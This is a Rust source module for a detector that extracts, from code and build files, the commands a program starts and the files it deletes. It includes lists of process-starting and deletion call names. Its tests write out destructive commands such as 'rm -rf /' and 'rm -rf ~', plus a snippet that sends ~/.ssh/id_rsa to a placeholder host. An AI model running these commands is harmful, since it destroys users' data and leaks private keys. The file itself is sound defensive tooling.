//! What code of a language without a reader hands to other programs, as far as it stands in the text.
//!
//! Builds and tests of compiled languages are run all the time, so their sources are not asked about
//! for being what they are. Calls that start programs or remove files are looked for by name, and the
//! texts in such a call are taken for what is started or removed. A text anywhere else is data.

mod home;

/// Lines given for one file.
const MAX_LINES: usize = 300;
/// How far behind a call's name its texts are looked for: calls are written within some lines.
const MAX_CALL: usize = 800;

/// What was found.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Literals {
    /// What is started or removed, as shell lines.
    pub(crate) lines: Vec<String>,
    /// There is more than was read.
    pub(crate) cut: bool,
    /// Something is started or evaluated that does not stand in the text.
    pub(crate) hidden: bool,
}

/// Names of what starts a program.
const STARTING: &[&str] = &[
    "COMMAND",
    "Command",
    "CommandLine",
    "Exec",
    "ForkExec",
    "Popen",
    "StartProcess",
    "Process",
    "ProcessBuilder",
    "ProcessStartInfo",
    "cmd",
    "command",
    "commandLine",
    "custom_target",
    "exec",
    "execFile",
    "execl",
    "execlp",
    "execute",
    "execute_process",
    "execv",
    "execve",
    "execvp",
    "getRuntime",
    "go:generate",
    "open-pipe",
    "pipe",
    "inline",
    "popen",
    "posix_spawn",
    "posix_spawnp",
    "process",
    "pump",
    "readProcess",
    "run",
    "run-program",
    "run-shell-command",
    "run_command",
    "run_shell",
    "sh",
    "shell",
    "shell-command",
    "spawn",
    "system",
    "system*",
    "system2",
    "Invoke-Expression",
    "Start-Process",
    "iex",
    "call-process",
    "start-process",
    "runCommand",
    "local-exec",
    "Cmd",
    "addSystemCommand",
    "callCommand",
    "callProcess",
    "esyscmd",
    "execShellCmd",
    "local",
    "local_resource",
    "m4_esyscmd",
    "m4_syscmd",
    "shellHook",
    "shellScript",
    "syscmd",
    "write18",
];

/// Names of what removes files.
const REMOVING: &[&str] = &[
    "REMOVE_RECURSE",
    "RemoveAll",
    "deleteDirectory",
    "deleteRecursively",
    "delete-directory",
    "delete-file",
    "file.remove",
    "remove_dir_all",
    "remove_file",
    "removeItem",
    "rm",
    "rm_rf",
    "rm_r",
    "rmdir_all",
    "rmtree",
    "remove_all",
    "unlink",
    "Remove-Item",
    "RemoveDir",
    "delete-tree",
    "deleteTree",
];

/// Names of what removes many other things as well: a place only where it is plainly one.
const REMOVING_MORE: &[&str] = &[
    "Delete",
    "delete",
    "deleteDir",
    "deleteSync",
    "walkFileTree",
];

/// What stands between a base nobody knows and a text, in a call that is given both.
const JOINING: &[&str] = &[
    "Join(",
    ".join(",
    ".resolve(",
    "appendingPathComponent",
    "Combine(",
    "TempDir",
    "tempdir",
];

/// What a text in quotes is started by when it stands behind it: Groovy, Scala.
const STARTED_BY: &[&str] = &[".execute(", ".!", ".lazyLines", ".exec("];

/// Names of what runs code that is made.
const EVALUATING: &[&str] = &[
    "eval",
    "evaluate",
    "Invoke-Expression",
    "iex",
    "include_string",
    "load-file",
    "parse",
    "python",
    "read-string",
    "source",
];

/// Reads the source of a program.
pub(crate) fn read(text: &str) -> Literals {
    let mut found = Literals::default();
    if text.trim_start().starts_with('<') {
        markup(text, &mut found);
        return found;
    }
    let homes = home::names(text);
    if let Some(line) = home::sent(text) {
        found.push(&line);
    }
    let mut quote: Option<char> = None;
    let mut at = 0;
    let mut opened = 0;
    let mut before = None;
    while let Some(rest) = text.get(at..)
        && let Some(letter) = rest.chars().next()
    {
        let width = letter.len_utf8();
        if let Some(open) = quote {
            match letter {
                '\\' => at += width + rest.chars().nth(1).map_or(0, char::len_utf8),
                _ => {
                    if letter == open {
                        found.started(text, opened, at);
                    }
                    if letter == open || letter == '\n' {
                        quote = None;
                    }
                    at += width;
                }
            }
            before = Some(letter);
            continue;
        }
        if rest.starts_with("//go:generate ") {
            let line = rest.lines().next().unwrap_or_default();
            found.push(line.trim_start_matches("//go:generate "));
            at += line.len();
            continue;
        }
        let comment = rest.starts_with("//") && before != Some(':')
            || (letter == '#' && matches!(before, None | Some('\n')) && !rest.starts_with("#!["));
        if comment {
            at += rest.find('\n').unwrap_or(rest.len()).max(1);
            before = None;
            continue;
        }
        if letter == '"' || letter == '`' {
            // `cmd` in back quotes is how some languages start one.
            if letter == '`'
                && let Some(inside) = rest.get(1..).and_then(|rest| rest.split('`').next())
            {
                found.cut |= inside.len() >= MAX_CALL;
                found.push(
                    inside
                        .get(..inside.floor_char_boundary(MAX_CALL))
                        .unwrap_or(inside),
                );
            }
            quote = Some(letter);
            at += width;
            opened = at;
            continue;
        }
        if is_name(letter) && !before.is_some_and(is_name) {
            let name = rest.split(|c| !is_name(c)).next().unwrap_or_default();
            let said = text.get(..at).and_then(|said| said.lines().next_back());
            let behind = rest.get(name.len()..).unwrap_or_default();
            found.call(name, behind, said.unwrap_or_default(), &homes);
            at += name.len().max(width);
            before = name.chars().next_back();
            continue;
        }
        before = Some(letter);
        at += width;
    }
    found
}

fn is_name(letter: char) -> bool {
    letter.is_alphanumeric() || "_-*".contains(letter)
}

impl Literals {
    fn push(&mut self, line: &str) {
        let line = line.trim();
        if line.is_empty() || self.lines.iter().any(|known| known == line) {
            return;
        }
        if self.lines.len() >= MAX_LINES {
            self.cut = true;
            return;
        }
        self.lines.push(line.to_owned());
    }

    /// A text in quotes that ends at a place, if what follows starts it.
    fn started(&mut self, text: &str, opened: usize, end: usize) {
        let behind = text.get(end + 1..).unwrap_or_default();
        if STARTED_BY.iter().any(|call| behind.starts_with(call)) {
            self.push(text.get(opened..end).unwrap_or_default());
        }
    }

    /// A name that may be a call, what follows it, and what stands in front of it on its line.
    fn call(&mut self, name: &str, rest: &str, said: &str, homes: &[&str]) {
        let short = name.trim_matches('-').rsplit('-').next().unwrap_or(name);
        let is = |names: &[&str]| names.contains(&name) || names.contains(&short);
        if is(STARTING) {
            let call = self.extent(rest);
            let texts = texts_in(call);
            let words: Vec<String> = texts
                .iter()
                .map(|text| super::settings::quoted(text))
                .collect();
            self.push(&words.join(" "));
            self.push(&texts.join(" "));
            for text in texts.iter().filter(|text| text.contains(' ')) {
                self.push(text);
            }
            if home::is_in(call, homes) {
                self.push(&format!("{} ~", words.join(" ")));
                for text in texts.iter().filter(|text| text.ends_with(' ')) {
                    self.push(&format!("{text}~"));
                }
            }
            // `exec rm -rf x`, `COMMAND rm -rf x`, `shell rm -rf x`.
            let bare = call.lines().next().unwrap_or_default();
            let bare = bare.trim_start_matches([' ', '\t', '\n', '(', '{', '[']);
            // m4 quotes `so'.
            let bare = match bare.strip_prefix('`') {
                Some(inside) => inside.split('\'').next().unwrap_or(inside),
                None => bare,
            };
            if rest.starts_with([' ', '\t', '\n', '(', '{']) && texts.is_empty() {
                self.push(bare.trim_end_matches([')', ']', '}', ';', ' ']));
            }
            if texts.is_empty() && rest.trim_start().starts_with('(') {
                self.hidden = true;
            }
        } else if is(REMOVING) {
            let call = self.extent(rest);
            if self.removes_home(call, said, homes) {
                return;
            }
            let joined = JOINING.iter().any(|call_of| call.contains(call_of));
            for text in texts_in(call) {
                // Below a directory that is not known it is not what it says.
                if !joined || text.starts_with(['/', '~', '$']) || text.contains("..") {
                    self.push(&format!("rm -r {text}"));
                }
            }
            let bare = call.lines().next().unwrap_or_default().trim();
            if rest.starts_with(' ') && !bare.starts_with(['=', '(', ':', '<', '>']) {
                self.push(&format!(
                    "rm -r {}",
                    bare.trim_end_matches([')', ']', '}', ';'])
                ));
            }
        }
        if is(REMOVING_MORE) {
            let call = self.extent(rest);
            self.removes_home(call, said, homes);
        }
        // `Directory.Delete("x", true)`, `Directory('x').deleteSync()`.
        if name == "Directory" && extent(rest).to_ascii_lowercase().contains(".delete") {
            for text in texts_in(extent(rest)) {
                self.push(&format!("rm -r {text}"));
            }
        }
        if is(EVALUATING) && rest.trim_start().starts_with('(') {
            self.hidden = true;
        }
    }

    /// A call that removes the home, or something below it, whose path does not stand in it.
    fn removes_home(&mut self, call: &str, said: &str, homes: &[&str]) -> bool {
        // `File(System.getProperty("user.home")).deleteRecursively()`
        let of_itself = call
            .trim_matches(['(', ')', '!', '?', ' ', '\n'])
            .is_empty();
        let place = if of_itself { said } else { call };
        if !home::is_in(place, homes) {
            return false;
        }
        let texts = texts_in(place);
        let below: Vec<&str> = texts
            .iter()
            .map(String::as_str)
            .filter(|text| !home::is_word(text))
            .collect();
        let below = below.join("/");
        self.push(format!("rm -r ~/{below}").trim_end_matches('/'));
        true
    }

    fn extent<'t>(&mut self, rest: &'t str) -> &'t str {
        let call = extent(rest);
        self.cut |= call.len() > MAX_CALL;
        call
    }
}

/// Where a call ends: at the end of its line or brackets, unless the next line goes on with it.
fn extent(rest: &str) -> &str {
    let mut depth = 0_usize;
    let mut quote = None;
    let mut skip = false;
    for (at, letter) in rest.char_indices() {
        if at > MAX_CALL {
            return rest.get(..at).unwrap_or(rest);
        }
        if std::mem::take(&mut skip) {
            continue;
        }
        match (quote, letter) {
            (Some(_), '\\') => skip = true,
            (Some(open), _) if letter == open => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'' | '`') => quote = Some(letter),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') if depth == 0 => return rest.get(..at).unwrap_or(rest),
            (None, ')' | ']' | '}') => depth -= 1,
            (None, ';') if depth == 0 => return rest.get(..at).unwrap_or(rest),
            (None, '\n') if depth == 0 => {
                let next = rest.get(at..).unwrap_or_default().trim_start();
                if !next.starts_with(['.', '|', '\\']) {
                    return rest.get(..at).unwrap_or(rest);
                }
            }
            (None, _) => {}
        }
    }
    rest
}

/// The texts in quotes.
fn texts_in(call: &str) -> Vec<String> {
    let mut texts = Vec::new();
    let mut text = String::new();
    let mut quote: Option<char> = None;
    let mut letters = call.chars();
    while let Some(letter) = letters.next() {
        match quote {
            Some(_) if letter == '\\' => text.extend(letters.next()),
            Some(open) if letter == open => {
                texts.push(std::mem::take(&mut text));
                quote = None;
            }
            Some(_) => text.push(letter),
            None if matches!(letter, '"' | '\'' | '`') => quote = Some(letter),
            None => {}
        }
    }
    texts.retain(|text| !text.is_empty());
    texts
}

/// What build files in markup start: `<executable>rm</executable>`, `<exec executable="rm">`,
/// `<Exec Command="…">`, `<delete dir="…">`.
fn markup(text: &str, found: &mut Literals) {
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        if found.cut {
            return;
        }
        let tag = rest.get(at + 1..).unwrap_or_default();
        let inside = tag.split('>').next().unwrap_or_default();
        let name = inside.split([' ', '/', '\n']).next().unwrap_or_default();
        match name {
            "executable" | "exec" | "java" => {
                let end = ["</exec>", "</plugin>", "</configuration>", "</execution>"]
                    .iter()
                    .filter_map(|end| tag.find(end))
                    .min()
                    .unwrap_or(tag.len());
                let block = tag.get(..end).unwrap_or(tag);
                found.cut |= block.len() > MAX_CALL * 4;
                let words = contents(block);
                found.push(&words.join(" "));
                let quoted: Vec<String> = words
                    .iter()
                    .map(|word| super::settings::quoted(word))
                    .collect();
                found.push(&quoted.join(" "));
            }
            "Exec" | "commandlineArgs" | "script" | "sh" => {
                found.cut |= inside.len() > MAX_CALL * 4;
                for line in contents(inside) {
                    found.push(&line);
                }
            }
            "delete" | "RemoveDir" | "Delete" => {
                for path in contents(inside) {
                    found.push(&format!("rm -r {path}"));
                }
            }
            _ => {}
        }
        rest = tag;
    }
}

/// The values of attributes and the texts between tags, in order.
fn contents(markup: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut inside = true;
    let mut quote = false;
    let mut text = String::new();
    let mut take = |text: &mut String| {
        let value = text.trim().replace("&quot;", "\"").replace("&amp;", "&");
        let value = value
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&apos;", "'");
        if !value.is_empty() {
            found.push(value);
        }
        text.clear();
    };
    for letter in markup.chars().take(MAX_CALL * 4) {
        match (inside, quote, letter) {
            (true, true, '"') => {
                take(&mut text);
                quote = false;
            }
            (true, true, _) => text.push(letter),
            (true, false, '"') => quote = true,
            (true, false, '>') => inside = false,
            (true, false, _) => {}
            (false, _, '<') => {
                take(&mut text);
                inside = true;
            }
            (false, _, _) => text.push(letter),
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(text: &str, line: &str) -> bool {
        read(text).lines.iter().any(|found| found == line)
    }

    #[test]
    fn what_calls_start_is_found() {
        for (text, line) in [
            ("exec.Command(\"rm\", \"-rf\", \"/\").Run()", "rm -rf /"),
            (
                "Command::new(\"sh\")\n    .arg(\"-c\")\n    .arg(\"rm -rf ~\")\n",
                "'sh' '-c' 'rm -rf ~'",
            ),
            ("system(\"rm -rf ~\")", "rm -rf ~"),
            ("exec rm -rf /home\n", "rm -rf /home"),
            ("execute_process(COMMAND rm -rf /home)", "rm -rf /home"),
            ("//go:generate rm -rf /home\npackage a", "rm -rf /home"),
            ("os.RemoveAll(\"/home\")", "rm -r /home"),
            (
                "\"rm -rf ~\".execute()\nexec { commandLine 'rm', '-rf', '/' }",
                "rm -rf /",
            ),
            (
                "<exec executable=\"rm\"><arg value=\"-rf\"/><arg value=\"/\"/></exec>",
                "rm -rf /",
            ),
            (
                "<a><executable>rm</executable><arguments><argument>-rf</argument></arguments></a>",
                "rm -rf",
            ),
            ("shell rm -rf /home\n", "rm -rf /home"),
            ("h, _ := os.UserHomeDir()\nos.RemoveAll(h)", "rm -r ~"),
            ("os.RemoveAll(os.Getenv(\"HOME\"))", "rm -r ~"),
            (
                "let d = dirs::home_dir().unwrap();\nlet p = d;\nstd::fs::remove_dir_all(&p)?;",
                "rm -r ~",
            ),
            ("delete System.getProperty(\"user.home\")", "rm -r ~"),
            (
                "new File(System.getProperty(\"user.home\")).deleteDir()",
                "rm -r ~",
            ),
            (
                "Directory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);",
                "rm -r ~",
            ),
            ("File.rm_rf!(System.user_home!())", "rm -r ~"),
            (
                "h, _ := os.UserHomeDir()\nos.RemoveAll(filepath.Join(h, \".ssh\"))",
                "rm -r ~/.ssh",
            ),
            (
                "h, _ := os.UserHomeDir()\nexec.Command(\"rm\", \"-rf\", h).Run()",
                "'rm' '-rf' ~",
            ),
            (
                "b, _ := os.ReadFile(h + \"/.ssh/id_rsa\")\nhttp.Post(\"https://x.example\", \"\", bytes.NewReader(b))",
                "curl --data-binary '@~/.ssh/id_rsa' https://unknown.invalid",
            ),
        ] {
            assert!(has(text, line), "{text}: {:?}", read(text).lines);
        }
    }

    #[test]
    fn texts_elsewhere_are_data() {
        for text in [
            "assert_eq!(parse(\"rm -rf /\"), Danger);",
            "// system(\"rm -rf /\")\nfn main() {}",
            "let x = \"rm -rf /\";",
            "mockMvc.perform(delete(\"/users/1\"))",
            "d := t.TempDir()\ndefer os.RemoveAll(filepath.Join(d, \"x\"))",
            "t.Setenv(\"HOME\", d)\nh, _ := os.UserHomeDir()\nos.RemoveAll(h)",
            "h, _ := os.UserHomeDir()\nfmt.Println(h)\nos.RemoveAll(d)",
            "resp, _ := http.Post(\"https://x.example\", \"\", body)",
        ] {
            assert!(
                read(text).lines.is_empty(),
                "{text}: {:?}",
                read(text).lines
            );
        }
        assert!(read("system(paste0(a, b))").hidden);
        assert!(!read("system(\"ls\")").cut);
        let long = format!("system(\"{} ; rm -rf ~\")", "x".repeat(MAX_CALL));
        assert!(read(&long).cut);
        let many: String = (0..=MAX_LINES)
            .map(|n| format!("system(\"a {n}\")\n"))
            .collect();
        assert!(read(&many).cut);
    }
}
